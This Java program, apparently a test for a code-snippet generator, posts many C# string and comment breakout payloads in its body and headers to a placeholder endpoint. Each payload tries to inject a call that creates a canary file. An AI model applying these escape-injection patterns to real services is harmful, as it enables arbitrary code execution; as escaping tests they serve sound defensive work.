import java.io.InputStream;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URI;
import java.net.URL;
import java.nio.charset.StandardCharsets;

public class Snippet {
    public static void main(String[] args) throws Exception {
        String body = "{System.IO.File.Create(\"snipgen-canary\")}\n{{System.IO.File.Create(\"snipgen-canary\")}}\n\"+System.IO.File.Create(\"snipgen-canary\")+\"\n\"\"+System.IO.File.Create(\"snipgen-canary\")+\"\"\n\"\"\"+System.IO.File.Create(\"snipgen-canary\")+\"\"\"\n\\\"+System.IO.File.Create(\"snipgen-canary\")+\\\"\n\\\\\"+System.IO.File.Create(\"snipgen-canary\")+\\\\\"\n@\"\\\"+System.IO.File.Create(\"snipgen-canary\")+\"\n$\"{System.IO.File.Create(\"snipgen-canary\")}\"\n{0} {x:System.IO.File.Create(\"snipgen-canary\")} {\n}\n\\u0022+System.IO.File.Create(\"snipgen-canary\")+\\u0022\n*/System.IO.File.Create(\"snipgen-canary\");/*\n\u0085System.IO.File.Create(\"snipgen-canary\");//\n\u2028System.IO.File.Create(\"snipgen-canary\");\u2029//\n\"\n#line 1\nSystem.IO.File.Create(\"snipgen-canary\");//\n\\";

        URL url = URI.create("https://api.example.com/run").toURL();
        HttpURLConnection connection = (HttpURLConnection) url.openConnection();
        connection.setRequestMethod("POST");
        connection.setRequestProperty("X-Try-1", "{System.IO.File.Create(\"snipgen-canary\")}");
        connection.setRequestProperty("X-Try-2", "{{System.IO.File.Create(\"snipgen-canary\")}}");
        connection.setRequestProperty("X-Try-3", "\"+System.IO.File.Create(\"snipgen-canary\")+\"");
        connection.setRequestProperty("X-Try-4", "\"\"+System.IO.File.Create(\"snipgen-canary\")+\"\"");
        connection.setRequestProperty("X-Try-5", "\"\"\"+System.IO.File.Create(\"snipgen-canary\")+\"\"\"");
        connection.setRequestProperty("X-Try-6", "\\\"+System.IO.File.Create(\"snipgen-canary\")+\\\"");
        connection.setRequestProperty("X-Try-7", "\\\\\"+System.IO.File.Create(\"snipgen-canary\")+\\\\\"");
        connection.setRequestProperty("X-Try-8", "@\"\\\"+System.IO.File.Create(\"snipgen-canary\")+\"");
        connection.setRequestProperty("X-Try-9", "$\"{System.IO.File.Create(\"snipgen-canary\")}\"");
        connection.setRequestProperty("X-Try-10", "{0} {x:System.IO.File.Create(\"snipgen-canary\")} {");
        connection.setRequestProperty("X-Try-11", "}");
        connection.setRequestProperty("X-Try-12", "\\u0022+System.IO.File.Create(\"snipgen-canary\")+\\u0022");
        connection.setRequestProperty("X-Try-13", "*/System.IO.File.Create(\"snipgen-canary\");/*");
        connection.setRequestProperty("X-Try-14", "\u0085System.IO.File.Create(\"snipgen-canary\");//");
        connection.setRequestProperty("X-Try-15", "\u2028System.IO.File.Create(\"snipgen-canary\");\u2029//");
        connection.setRequestProperty("X-Try-17", "\\");
        connection.setRequestProperty("Content-Type", "text/plain");
        connection.setDoOutput(true);
        try (OutputStream stream = connection.getOutputStream()) {
            stream.write(body.getBytes(StandardCharsets.UTF_8));
        }

        int status = connection.getResponseCode();
        InputStream content = status < 400 ? connection.getInputStream() : connection.getErrorStream();
        if (content != null) {
            System.out.println(new String(content.readAllBytes(), StandardCharsets.UTF_8));
        }
    }
}
